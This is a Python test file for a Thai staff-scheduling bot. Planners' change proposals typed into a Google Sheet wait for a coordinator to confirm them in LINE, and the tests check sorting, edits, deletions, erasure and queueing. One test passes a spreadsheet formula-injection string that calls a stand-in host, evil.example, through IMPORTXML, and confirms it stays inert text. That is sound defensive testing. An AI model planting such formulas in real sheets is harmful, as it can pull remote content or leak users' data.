"""ข้อเสนอแก้ไข: what planners type in the sheet waits for a coordinator's tap, and is answered beside it."""

from datetime import date, timedelta
from typing import Any

import pytest
from office import Office
from searching import in_tables

from domain.sheet.suggestions import AT, BY, HEADER, KEY, RESULT, TITLE
from scheduler.read_suggestions import EVERY

SRI, WAN, KAMON, MALI = "สมศรี ใจดี", "วรรณา แสงทอง", "กมล วิเคราะห์ดี", "มาลี รุ่งเรือง"
DAY, REASON = "9 ก.ย. 2567", "โรงเรียนส่งข้อมูลช้า"


@pytest.fixture(autouse=True)
def with_a_planner(office: Office) -> None:
    look(office)  # the tab is made


def look(office: Office) -> None:
    """The step looks now, and whatever follows is done."""
    steps = office.house.planners.read_suggestions
    assert steps
    steps.look("test")
    office.settle()
    steps.look("test")


def planner(office: Office) -> str:
    """Somebody whose role lets them propose."""
    from domain.people import Role

    with office.house.store.look() as work:
        (found, *_) = [one for one in work.people.working() if one.roles & {Role.PLANNER, Role.COORDINATOR}]
    return found.name


def duty_of(office: Office, code: str) -> str:
    with office.house.store.look() as work:
        return f"D{work.duties.with_codes([code])[code][0]:06}"


def office_date(office: Office, code: str) -> date:
    with office.house.store.look() as work:
        return work.duties.get(work.duties.with_codes([code])[code])[0].office_on


def type_(office: Office, row: int, *cells: Any) -> None:
    for column, value in enumerate(cells, start=1):
        office.sheets.human_set(TITLE, row, column, value)


def moves(office: Office, code: str = "E5", day: str = DAY, why: str = REASON) -> tuple[str, ...]:
    return (duty_of(office, code), "เลื่อนกำหนด", day, why, planner(office))


def answers(office: Office) -> list[dict[str, str]]:
    """Our columns of each row that holds anything, by its place."""
    _, *rows = office.sheets.grid(TITLE)
    whole = [[*row, *[None] * len(HEADER)] for row in rows]
    return [{title: str(row[HEADER.index(title)] or "") for title in (KEY, RESULT, BY, AT)} for row in whole]


def tap(office: Office, label: str, who: str = WAN) -> list[str]:
    """The coordinator asks what waits, and taps."""
    office.playground.say(who, "ข้อเสนอจากชีต")
    office.settle()
    shown = office.messages(who)[-1]
    buttons = {one["action"]["label"]: one["action"]["data"] for one in shown["quickReply"]["items"]}
    return office.press(who, buttons[label])


def test_the_tab_is_made_with_its_header_and_a_typed_line_is_carried_out_when_a_coordinator_taps(
    office: Office,
) -> None:
    office.enrol(WAN, SRI)
    assert office.sheets.grid(TITLE) == [[*HEADER]]
    type_(office, 1, *moves(office))
    look(office)
    (waiting,) = answers(office)
    assert waiting == {KEY: "P000001", RESULT: "รอผู้ประสานงานยืนยันใน LINE", BY: "", AT: ""}
    told = office.say(WAN, "ข้อเสนอจากชีต")
    assert any("มีข้อเสนอแก้ไขจากชีต 1 ข้อ" in words for words in told)
    assert (
        planner(office) in told[-1]
        and REASON in told[-1]
        and "2 ก.ย. 2567 (จ.) → 9 ก.ย. 2567 (จ.)" in told[-1]
    )
    assert office_date(office, "E5") == date(2024, 9, 2)
    tap(office, "ยืนยัน")
    assert office_date(office, "E5") == date(2024, 9, 9)
    look(office)
    (done,) = answers(office)
    assert (done[KEY], done[RESULT], done[BY]) == ("P000001", "ดำเนินการแล้ว", WAN)
    assert done[AT].startswith("29 ส.ค. 2567 (พฤ.)")
    assert any("เลื่อน" in words for words in office.say(SRI, "สวัสดีค่ะ"))
    assert "ตอนนี้ไม่มีข้อเสนอจากชีต" in office.say(WAN, "ข้อเสนอจากชีต")[-1]


def test_a_no_is_answered_too_and_nothing_changes(office: Office) -> None:
    office.enrol(WAN)
    type_(office, 1, *moves(office))
    look(office)
    tap(office, "ไม่ใช่")
    look(office)
    (told,) = answers(office)
    assert (told[RESULT], told[BY]) == ("ไม่ได้ดำเนินการ", WAN)
    assert office_date(office, "E5") == date(2024, 9, 2)


def test_rows_that_are_sorted_moved_and_copied_keep_their_answers(office: Office) -> None:
    office.enrol(WAN)
    type_(office, 1, *moves(office, "E5"))
    type_(office, 2, *moves(office, "E6", why="ก่อน"))
    look(office)
    keys = {row[KEY] for row in answers(office)}
    office.sheets.human_sort(TITLE, 4, descending=True)
    type_(office, 6, *moves(office, "E5"))
    look(office)
    told = answers(office)
    assert {row[KEY] for row in told if row[KEY]} == keys == {"P000001", "P000002"}
    assert told[5][RESULT].startswith("ซ้ำกับ P00000")
    with office.house.store.look() as work:
        assert len(work.suggestions.waiting(office.house.clocks.office())) == 2


def test_an_edit_after_it_was_shown_is_another_proposal(office: Office) -> None:
    office.enrol(WAN)
    type_(office, 1, *moves(office))
    look(office)
    office.playground.say(WAN, "ข้อเสนอจากชีต")
    office.settle()
    old = {b["action"]["label"]: b["action"]["data"] for b in office.messages(WAN)[-1]["quickReply"]["items"]}
    office.sheets.human_set(TITLE, 1, 3, "12 ก.ย. 2567")
    look(office)
    assert "จึงไม่มีอะไรเปลี่ยน" in office.press(WAN, old["ยืนยัน"])[-1]
    assert office_date(office, "E5") == date(2024, 9, 2)
    assert answers(office)[0] == {KEY: "P000002", RESULT: "รอผู้ประสานงานยืนยันใน LINE", BY: "", AT: ""}
    tap(office, "ยืนยัน")
    assert office_date(office, "E5") == date(2024, 9, 12)


def test_a_row_that_is_deleted_takes_its_proposal_back(office: Office) -> None:
    office.enrol(WAN)
    type_(office, 1, *moves(office))
    look(office)
    type_(office, 1, *[""] * 5)
    look(office)
    assert office.sheets.grid(TITLE) == [[*HEADER]]
    assert "ไม่มีข้อเสนอจากชีต" in office.say(WAN, "ข้อเสนอจากชีต")[-1]


def test_what_was_done_meanwhile_in_chat_is_answered_kindly(office: Office) -> None:
    office.enrol(WAN, SRI)
    type_(office, 1, *moves(office))
    look(office)
    office.say(SRI, "ส่ง E5")
    assert "ไม่มีข้อเสนอจากชีต" in office.say(WAN, "ข้อเสนอจากชีต")[-1]
    look(office)
    assert answers(office)[0][RESULT] == "ทำไม่ได้แล้ว: งานนี้ส่งแล้ว"


def test_what_cannot_be_done_says_why_at_once(office: Office) -> None:
    office.enrol(SRI)
    office.say(SRI, "ส่ง E5")
    type_(office, 1, *moves(office))
    type_(office, 2, duty_of(office, "E6"), "เปิดใหม่", "", "", planner(office))
    type_(office, 3, "D9", "ร้อยละ", "90", "อยาก", SRI)
    look(office)
    first, second, third = answers(office)
    assert first[RESULT] == "ยังเสนอไม่ได้: งานนี้ส่งแล้ว"
    assert second[RESULT] == "ยังเสนอไม่ได้: งานนี้ยังเปิดอยู่"
    assert third[KEY] == "" and third[RESULT]


def test_hostile_lines_stay_text_and_a_flood_waits_in_a_queue(office: Office) -> None:
    office.enrol(WAN)
    type_(office, 1, *moves(office, why='\'=IMPORTXML("http://evil.example")'))
    for row in range(2, 60):
        type_(office, row, *moves(office, why=f"เหตุผลที่ {row}"))
    for _ in range(4):
        look(office)
    told = answers(office)
    waiting = [row for row in told if row[RESULT].startswith("รอผู้ประสานงาน")]
    queued = [row for row in told if row[RESULT].startswith("รอคิว")]
    assert (len(waiting), len(queued)) == (50, 9)
    assert office.sheets.formulas() == []
    shown = office.say(WAN, "ข้อเสนอจากชีต")[-1]
    assert "=IMPORTXML" in shown and "มีอีก 49 ข้อ" in shown
    assert sum("ข้อเสนอแก้ไขจากชีต" in words for words in office.say(WAN, "สวัสดีค่ะ")) == 0, "told once"


def test_a_header_that_was_changed_is_put_back_and_our_own_columns_are_ours(office: Office) -> None:
    type_(office, 1, *moves(office))
    office.sheets.human_set(TITLE, 0, 2, "อะไรนะ")
    look(office)
    office.sheets.human_set(TITLE, 1, 6, "อนุมัติแล้วจ้า")
    office.sheets.human_set(TITLE, 4, 0, "P000777")
    look(office)
    assert office.sheets.grid(TITLE)[0] == [*HEADER]
    assert [row[RESULT] for row in answers(office)] == ["รอผู้ประสานงานยืนยันใน LINE"]


def test_whoever_has_their_data_erased_leaves_no_proposal(office: Office) -> None:
    office.enrol(WAN)
    type_(office, 1, *moves(office, why="รอเอกสารลับ")[:-1], WAN)
    look(office)
    assert any(
        place.startswith("proposal.words") for place in in_tables(office.house.store.engine, "รอเอกสารลับ")
    )
    office.say(WAN, "ลบข้อมูลของฉัน")
    office.press(WAN, "erase")
    assert not any(
        place.startswith(("proposal", "suggestion"))
        for place in in_tables(office.house.store.engine, "รอเอกสารลับ")
    )
    look(office)
    assert answers(office)[0][RESULT] == "ข้อเสนอนี้ถูกถอนแล้ว"


def test_when_nobody_typed_google_is_asked_every_few_minutes_only(office: Office) -> None:
    steps = office.house.planners.read_suggestions
    assert steps and not steps("test")
    office.sheets.calls.clear()
    assert not steps("test") and office.sheets.calls == []
    assert timedelta(minutes=2) <= EVERY <= timedelta(minutes=10)
